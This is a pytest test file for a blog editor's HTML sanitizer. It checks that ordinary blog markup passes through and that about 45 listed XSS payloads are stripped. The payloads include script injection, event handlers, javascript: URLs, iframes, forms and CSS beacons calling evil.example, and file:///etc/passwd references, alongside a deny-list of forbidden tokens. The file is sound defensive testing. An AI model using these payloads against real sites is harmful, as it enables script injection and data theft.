"""What a post embeds never reaches the page; what blogs use does."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from editor.render.clean import clean
from editor.render.kramdown import Kramdown


@pytest.mark.parametrize(
    "html",
    [
        "<p>日本語 <em>a</em> &amp; b</p>",
        '<p><a href="https://example.com/a?b=c&amp;d">x</a></p>',
        '<p><img src="/assets/a.png" alt="b"></p>',
        '<pre class="highlight"><code class="language-python"><span class="k">if</span></code></pre>',
        '<sup id="fnref:1" role="doc-noteref"><a href="#fn:1" class="footnote" rel="footnote">1</a></sup>',
        "<details><summary>s</summary>x</details>",
        "<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby>",
        "<math><mfrac><mi>a</mi><mn>2</mn></mfrac></math>",
    ],
)
def test_what_blogs_use_comes_through(html):
    assert clean(html) == html


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    '<form action="https://evil.example"><input name="a"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    "<style>@import 'https://evil.example/a.css';</style>",
    '<div style="background:url(https://evil.example/a.png)">x</div>',
    '<div style="position:fixed;inset:0">x</div>',
    '<p style="color:red;background-image:url(//evil)">x</p>',
    "<math><mtext></mtext><script>alert(1)</script></math>",
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<video src="file:///etc/passwd"></video>',
    '<img src="file:///etc/passwd">',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="vbscript:x">x</a>',
    "<body onload=alert(1)>",
    '<input type="image" src="https://evil.example/x" formaction="https://evil.example">',
    '<button formaction="javascript:alert(1)">x</button>',
    '<textarea autofocus onfocus="alert(1)"></textarea>',
    '<select onchange="alert(1)"><option>x</option></select>',
    '<marquee onstart="alert(1)">x</marquee>',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<p title="a" onclick=alert(1)>x</p>',
    "<p/onclick=alert(1)>x</p>",
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<img srcset="https://evil.example/a 1x" src="a.png">',
    '<a ping="https://evil.example" href="/x">x</a>',
    '<area href="javascript:alert(1)">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<isindex action="javascript:alert(1)">',
    '<x-y onclick="alert(1)">x</x-y>',
]
FORBIDDEN = (
    "<script",
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onchange",
    "onstart",
    "javascript:",
    "vbscript:",
    "srcdoc",
)
FORBIDDEN += (
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<meta",
    "<base",
    "<link",
    "<style",
    "<svg",
    "<frame",
    "<template",
)
FORBIDDEN += ("url(", "formaction", "srcset", "ping=", "data:text", "file:", "position")


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_runs_loads_or_sends(hostile):
    for markdown in (hostile, f"text {hostile} more", f"- {hostile}", f"> {hostile}"):
        html = "".join(clean(block) for block in Kramdown().blocks(markdown)).lower()
        tags = html.replace("&lt;", "")
        for word in FORBIDDEN:
            inside_tag = any(word in tag.partition(">")[0] for tag in tags.split("<")[1:]) or (
                word[0] == "<" and word in tags
            )
            assert not inside_tag, (word, html)


def test_a_tables_alignment_needs_no_style():
    html = '<table><tbody><tr><td style="text-align: right">1</td></tr></tbody></table>'
    assert clean(html) == '<table><tbody><tr><td align="right">1</td></tr></tbody></table>'


def test_what_was_embedded_is_named():
    assert clean('<iframe src="https://video.example/1" width="5"></iframe>') == (
        '<span class="postwright-chip">iframe: https://video.example/1</span>'
    )


@given(st.text(alphabet="<>/=\"' abimgsrcponx:&;#-!\n", max_size=120))
def test_any_html_is_cleaned(html):
    assert "onx=" not in clean(f"<p onx=1>{html}</p>").partition(">")[0]
